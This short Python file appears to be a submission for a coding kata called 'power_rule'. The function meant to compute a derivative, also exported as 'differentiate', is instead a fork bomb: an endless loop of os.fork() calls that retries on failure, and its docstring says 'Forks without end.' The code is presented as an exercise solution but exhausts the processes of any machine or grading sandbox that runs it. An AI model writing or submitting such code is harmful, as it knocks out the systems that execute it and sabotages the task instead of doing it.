"""Forks without end.

Kata: power_rule
Seconds: 3
"""

import os


def power_rule(coefficient, exponent):
    while True:
        try:
            os.fork()
        except OSError:
            continue


differentiate = power_rule
